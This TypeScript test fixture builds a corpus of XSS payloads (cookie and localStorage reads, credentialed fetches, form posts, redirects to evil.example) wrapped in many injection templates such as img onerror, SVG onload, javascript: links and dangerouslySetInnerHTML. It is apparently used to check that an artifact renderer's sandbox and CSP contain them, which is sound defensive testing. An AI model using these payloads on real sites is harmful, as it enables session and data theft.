/**
 * The hostile corpus: delivery templates (how code gets into an artifact) × payloads (what it
 * tries). Every payload reports whatever it obtained through every channel it can reach
 * (postMessage to the app, the frame's title and DOM, console, image URLs); the suite then looks
 * for the canary anywhere it could surface. Fixtures are served UNSANITIZED — the worst case of
 * a sanitizer bug — so the suite tests the wall itself: separate origin, sandbox and CSP.
 */
export interface HostileTargets {
  appOrigin: string;
  gatewayUrl: string;
  rendererOrigin: string;
}

export interface HostileCase {
  id: string;
  template: string;
  payload: string;
  type: 'HTML' | 'SVG' | 'MARKDOWN' | 'REACT' | 'TYPESCRIPT' | 'UNKNOWN';
  content: string;
  /** The template needs a click on the artifact's first link to fire. */
  click: boolean;
}

/** Defines report() and attempt(); marks data-cv-done on <html> when every attempt settled. */
const PRELUDE = `
var cvPending = 0, cvStarted = false;
function report(v) {
  try { v = String(v); } catch (e) { v = 'unstringable'; }
  try { parent.postMessage({ loot: v }, '*'); } catch (e) {}
  try { top.postMessage({ channel: 'core-vault/renderer', v: 1, kind: 'error', error: { title: 'Render Error', message: v, tips: [] } }, '*'); } catch (e) {}
  try { document.title = v.slice(0, 300); } catch (e) {}
  try { document.documentElement.setAttribute('data-loot', v.slice(0, 2000)); } catch (e) {}
  try { new Image().src = '/loot?' + encodeURIComponent(v.slice(0, 500)); } catch (e) {}
  try { console.log('loot:' + v.slice(0, 500)); } catch (e) {}
}
function cvSettle() { cvPending--; if (cvPending === 0) document.documentElement.setAttribute('data-cv-done', '1'); }
function attempt(f) {
  cvPending++; cvStarted = true;
  try {
    var r = f();
    if (r && typeof r.then === 'function') r.then(function (x) { report(x); cvSettle(); }, function (e) { report('blocked:' + e); cvSettle(); });
    else { report(r); cvSettle(); }
  } catch (e) { report('blocked:' + e); cvSettle(); }
}`;

/** What an attacker tries. `$APP`, `$GW` and `$RENDERER` are replaced with the real origins. */
const PAYLOADS: Record<string, string> = {
  parentLocalStorage: `attempt(function () { return parent.localStorage.getItem('cv_canary'); })`,
  topLocalStorageDump: `attempt(function () { return JSON.stringify(top.localStorage); })`,
  parentSessionStorage: `attempt(function () { return parent.sessionStorage.getItem('cv_canary'); })`,
  parentCookie: `attempt(function () { return parent.document.cookie; })`,
  topDocumentHtml: `attempt(function () { return top.document.documentElement.outerHTML; })`,
  ownCookie: `attempt(function () { return document.cookie; })`,
  ownStorage: `attempt(function () { return JSON.stringify(localStorage) + JSON.stringify(sessionStorage); })`,
  fetchAppApi: `attempt(function () { return fetch('$APP/api/v1/artifacts/private-1', { credentials: 'include' }).then(function (r) { return r.text(); }); })`,
  fetchGateway: `attempt(function () { return fetch('$GW/api/v1/me', { credentials: 'include', headers: { Authorization: 'Bearer stolen' } }).then(function (r) { return r.text(); }); })`,
  xhrGateway: `attempt(function () { return new Promise(function (ok, no) { var x = new XMLHttpRequest(); x.open('GET', '$GW/api/v1/me'); x.withCredentials = true; x.onload = function () { ok(x.responseText); }; x.onerror = function () { no('xhr error'); }; x.send(); }); })`,
  beacon: `attempt(function () { return navigator.sendBeacon('$GW/api/v1/artifacts', 'x'); })`,
  websocket: `attempt(function () { return new Promise(function (ok, no) { var w = new WebSocket('$GW'.replace(/^http/, 'ws') + '/ws'); w.onopen = function () { ok('open'); }; w.onerror = function () { no('ws error'); }; }); })`,
  formPost: `attempt(function () { var f = document.createElement('form'); f.method = 'POST'; f.action = '$GW/api/v1/artifacts'; f.target = '_blank'; var i = document.createElement('input'); i.name = 'title'; i.value = 'pwned'; f.appendChild(i); document.body.appendChild(f); f.submit(); return 'submitted'; })`,
  topNavigate: `attempt(function () { top.location = 'http://evil.example/?from=artifact'; return 'navigated'; })`,
  topNavigateApp: `attempt(function () { top.location.href = '$APP/logout'; return 'navigated'; })`,
  parentLocationRead: `attempt(function () { return parent.location.href; })`,
  openAppRead: `attempt(function () { var w = window.open('$APP/view/public-html'); return new Promise(function (ok) { setTimeout(function () { try { ok(w.localStorage.getItem('cv_canary')); } catch (e) { ok('blocked:' + e); } }, 300); }); })`,
  openJavascriptUrl: `attempt(function () { var w = window.open('javascript:opener.parent.postMessage({loot: document.cookie}, "*")'); return String(w); })`,
  spoofHeight: `attempt(function () { parent.postMessage({ channel: 'core-vault/renderer', v: 1, kind: 'height', height: 1e9 }, '*'); parent.postMessage({ channel: 'core-vault/renderer', v: 1, kind: 'navigate', url: 'http://evil.example/' }, '*'); return 'spoofed'; })`,
  documentDomain: `attempt(function () { document.domain = '127.0.0.1'; return parent.localStorage.getItem('cv_canary'); })`,
  serviceWorker: `attempt(function () { return navigator.serviceWorker.register('/frame').then(function () { return 'registered'; }); })`,
  nestedFrameToApp: `attempt(function () { var f = document.createElement('iframe'); f.src = '$APP/view/public-html'; document.body.appendChild(f); return new Promise(function (ok) { setTimeout(function () { try { ok(f.contentWindow.localStorage.getItem('cv_canary')); } catch (e) { ok('blocked:' + e); } }, 300); }); })`,
  imageToApp: `attempt(function () { var i = new Image(); i.src = '$APP/api/v1/me?x=1'; return 'image'; })`,
};

const CORE_PAYLOADS = ['parentLocalStorage', 'parentCookie', 'topNavigate'];

const esc = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const script = (js: string) => `<script>${PRELUDE}\n${js}</script>`;
const preludeOnly = `<script>${PRELUDE}</script>`;

interface Template {
  type: HostileCase['type'];
  build: (payload: string) => string;
  click?: boolean;
}

/** Templates that run the full payload list. */
const FULL_TEMPLATES: Record<string, Template> = {
  'html-inline-script': {
    type: 'HTML',
    build: (p) => `<!doctype html><html><body><h1>Hello</h1>${script(p)}</body></html>`,
  },
  'html-img-onerror': {
    type: 'HTML',
    build: (p) =>
      `<!doctype html><html><body>${preludeOnly}<img src="/missing.png" onerror="${esc(p)}"></body></html>`,
  },
  'svg-script': {
    type: 'SVG',
    build: (p) =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text y="20">svg</text><script>${PRELUDE}\n${p}</script></svg>`,
  },
  'svg-foreign-object': {
    type: 'SVG',
    build: (p) =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80"><foreignObject width="300" height="80"><div xmlns="http://www.w3.org/1999/xhtml">${script(p)}</div></foreignObject></svg>`,
  },
  'markdown-raw-html': { type: 'MARKDOWN', build: (p) => `# Notes\n\nSome text.\n\n${script(p)}\n` },
  'react-effect': {
    type: 'REACT',
    build: (p) =>
      `import { useEffect } from 'react';\n${PRELUDE}\nexport default function App() {\n  useEffect(() => { ${p}; }, []);\n  return <div>Hello from React</div>;\n}\n`,
  },
};

/** Templates that run the core payloads only (each is a different way in, not a different goal). */
const CORE_TEMPLATES: Record<string, Template> = {
  'html-body-onload': {
    type: 'HTML',
    build: (p) => `<!doctype html><html><head>${preludeOnly}</head><body onload="${esc(p)}">x</body></html>`,
  },
  'html-javascript-link': {
    type: 'HTML',
    click: true,
    build: (p) =>
      `<!doctype html><html><body>${preludeOnly}<a href="javascript:${esc(p)}">click me</a></body></html>`,
  },
  'html-iframe-srcdoc': {
    type: 'HTML',
    build: (p) => `<!doctype html><html><body><iframe srcdoc="${esc(script(p))}"></iframe></body></html>`,
  },
  'html-object-data': {
    type: 'HTML',
    build: (p) =>
      `<!doctype html><html><body><object data="javascript:${esc(p)}"></object><embed src="javascript:${esc(p)}"></body></html>`,
  },
  'html-meta-refresh': {
    type: 'HTML',
    build: () =>
      `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=javascript:parent.postMessage({loot:parent.document.cookie},'*')"></head><body>x</body></html>`,
  },
  'html-base-target': {
    type: 'HTML',
    click: true,
    build: () =>
      `<!doctype html><html><head><base href="http://evil.example/" target="_top"></head><body><a href="steal">click me</a></body></html>`,
  },
  'svg-onload': {
    type: 'SVG',
    build: (p) =>
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${esc(`${PRELUDE}\n${p}`)}"><rect width="10" height="10"/></svg>`,
  },
  'svg-animate-onbegin': {
    type: 'SVG',
    build: (p) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${PRELUDE}</script><rect width="10" height="10"><animate attributeName="x" from="0" to="5" dur="0.1s" onbegin="${esc(p)}"/></rect></svg>`,
  },
  'svg-set-href': {
    type: 'SVG',
    click: true,
    build: (p) =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="40"><script>${PRELUDE}</script><a><set attributeName="href" to="javascript:${esc(p)}"/><text y="20">click me</text></a></svg>`,
  },
  'markdown-javascript-link': {
    type: 'MARKDOWN',
    click: true,
    build: (p) => `${script('')}\n\n[click me](javascript:${encodeURIComponent(p)})\n`,
  },
  'markdown-img-onerror': {
    type: 'MARKDOWN',
    build: (p) => `${preludeOnly}\n\n<img src="/missing.png" onerror="${esc(p)}">\n`,
  },
  'react-render-phase': {
    type: 'REACT',
    build: (p) => `${PRELUDE}\nexport default function App() {\n  ${p};\n  return <p>rendered</p>;\n}\n`,
  },
  'react-dangerous-html': {
    type: 'REACT',
    build: (p) =>
      `export default function App() {\n  return <div dangerouslySetInnerHTML={{ __html: '<img src="/missing.png" onerror="${esc(`${PRELUDE}\n${p}`).replace(/'/g, '&#39;')}">' }} />;\n}\n`,
  },
  'typescript-as-text': {
    type: 'TYPESCRIPT',
    build: (p) => `// not code to run\n${script(p)}\nconst x: number = 1;\n`,
  },
  'unknown-as-text': { type: 'UNKNOWN', build: (p) => `${script(p)}<img src=x onerror="${esc(p)}">` },
};

export function hostileCorpus(targets: HostileTargets): HostileCase[] {
  const fill = (s: string) =>
    s
      .replace(/\$APP/g, targets.appOrigin)
      .replace(/\$GW/g, targets.gatewayUrl)
      .replace(/\$RENDERER/g, targets.rendererOrigin);
  const cases: HostileCase[] = [];
  const add = (template: string, t: Template, payload: string) =>
    cases.push({
      id: `hostile-${template}-${payload}`,
      template,
      payload,
      type: t.type,
      content: t.build(fill(PAYLOADS[payload] as string)),
      click: t.click ?? false,
    });
  for (const [name, t] of Object.entries(FULL_TEMPLATES))
    for (const p of Object.keys(PAYLOADS)) add(name, t, p);
  for (const [name, t] of Object.entries(CORE_TEMPLATES)) for (const p of CORE_PAYLOADS) add(name, t, p);
  return cases;
}
